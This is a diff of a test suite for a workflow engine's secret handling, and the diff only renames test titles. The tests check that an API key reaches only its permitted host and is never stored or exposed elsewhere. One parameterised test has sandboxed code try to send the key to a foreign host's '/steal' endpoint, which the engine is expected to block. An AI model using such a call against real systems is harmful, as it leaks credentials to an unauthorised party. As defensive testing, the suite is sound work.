@@ -54,7 +54,7 @@ describe("a secret", () => {
     return await execute(instance, "pay", { own: own.url, foreign: foreign.url });
   }
 
-  test("reaches its own host, in a header and in the body, and the workflow never has it", async () => {
+  test("is sent to its own host, in a header and in the body, and never reaches the workflow", async () => {
     const { result } = await run(`
       const { STRIPE_KEY } = ctx.secrets;
       console.log("key", STRIPE_KEY);
@@ -71,7 +71,7 @@ describe("a secret", () => {
     expect(result.response.got).toBe(`Bearer ${result.STRIPE_KEY}`);
   });
 
-  test("is blacked out where its host sends it back", async () => {
+  test("is redacted if its host returns it", async () => {
     const { result } = await run(`
       const response = await fetch(own + "/echo", { headers: { authorization: ctx.secrets.STRIPE_KEY } });
       return { header: response.headers.get("x-echo"), body: await response.json(), key: ctx.secrets.STRIPE_KEY };`);
@@ -79,7 +79,7 @@ describe("a secret", () => {
     expect(result.body).toEqual({ echo: result.key, encoded: result.key });
   });
 
-  test("that its host echoes more often than there is room for ends the fetch, which is made once", async () => {
+  test("that its host repeats beyond the limit rejects the fetch, which is sent once", async () => {
     const { failure } = await run(`
       const headers = { authorization: ctx.secrets.STRIPE_KEY };
       return (await (await fetch(own + "/flood", { headers })).text()).length;`);
@@ -97,7 +97,7 @@ describe("a secret", () => {
       "in basic authentication",
       "{ headers: { authorization: 'Basic ' + btoa('u:' + ctx.secrets.STRIPE_KEY) } }",
     ],
-  ])("goes nowhere else %s", async (_how, init) => {
+  ])("is sent to no other host %s", async (_how, init) => {
     const { failure } = await run(`await fetch(foreign + "/steal", ${init});`);
     expect(failure).toMatchObject({
       code: "secret-refused",
@@ -106,7 +106,7 @@ describe("a secret", () => {
     expect(foreign.seen).toEqual([]);
   });
 
-  test("is not taken along by a redirect", async () => {
+  test("is not sent to the target of a redirect", async () => {
     const { failure } = await run(
       `await fetch(own + "/away", { headers: { "x-api-key": ctx.secrets.STRIPE_KEY } });`,
     );
@@ -114,7 +114,7 @@ describe("a secret", () => {
     expect(foreign.seen).toEqual([]);
   });
 
-  test("signs without being there", async () => {
+  test("can sign without reaching the sandbox", async () => {
     const { result } = await run(`
       const signature = await ctx.secrets.hmacSha256("STRIPE_KEY", "order 4711");
       return Array.from(signature, (byte) => byte.toString(16).padStart(2, "0")).join("");`);
@@ -123,7 +123,7 @@ describe("a secret", () => {
     expect(failure.message).toBe('Cannot sign: workflow "pay" has no secret NOBODYS');
   });
 
-  test("is nowhere in the memory of the guest, which finds its placeholder there", async () => {
+  test("is not in the memory of the guest, which has only its placeholder", async () => {
     const { result } = await run(`${searchMemory}
       const { STRIPE_KEY } = ctx.secrets;
       const headers = { authorization: "Basic " + btoa("user:" + STRIPE_KEY), "x-key": STRIPE_KEY };
@@ -138,7 +138,7 @@ describe("a secret", () => {
     expect(result).toEqual({ found: forms.map(() => false), placeholder: true, kept: 3 });
   });
 
-  test("is in no response over HTTP", async () => {
+  test("is in no HTTP response", async () => {
     const listed = await instance.request("GET", "/workflows/pay/secrets");
     expect(listed.body).toMatchObject({ items: [{ name: "STRIPE_KEY", hosts: [own.url] }] });
     const { body } = await instance.request("GET", "/executions?workflow=pay&limit=200");
@@ -153,13 +153,13 @@ describe("a secret", () => {
     expect(texts.filter(isTelling)).toEqual([]);
   });
 
-  test("is beside payloads in files that no other user of the machine can read, Restate's too", async () => {
+  test("and payloads are in files that no other user of the machine can read, including Restate's", async () => {
     const { dataDir } = instance;
     const contained = (await ownEntries(dataDir)).map(({ parentPath, name }) =>
       relative(dataDir, join(parentPath, name)),
     );
     const bundling = (await readdir(join(dataDir, "bundling"))).map((name) => join("bundling", name));
-    // Engines are copied as they are, and the same for everybody.
+    // Engines are copied unchanged, and contain no secrets.
     const names = [...contained, ...bundling].filter((name) => !name.startsWith("engines"));
     // Restate and the bundlers remove files of their own at any time.
     const modeOf = async (name: string) =>
@@ -172,14 +172,14 @@ describe("a secret", () => {
     expect(modes.filter(({ mode }) => (mode & 0o077) !== 0).map(({ name }) => name)).toEqual([]);
   });
 
-  test("is in no file: database, journal, artifacts, and what the process printed", async () => {
+  test("is in no file: database, journal, artifacts, output of the process", async () => {
     await instance.stop();
     const telling = await filesTelling(instance.dataDir);
     expect(telling).toEqual([]);
     expect(isTelling(instance.output())).toBe(false);
   });
 
-  test("stays what it is under a new master key", async () => {
+  test("keeps its value under a new master key", async () => {
     // It is down already, if all tests ran.
     await instance.stop();
     const before = await readFile(join(instance.dataDir, "master.key"), "utf8");
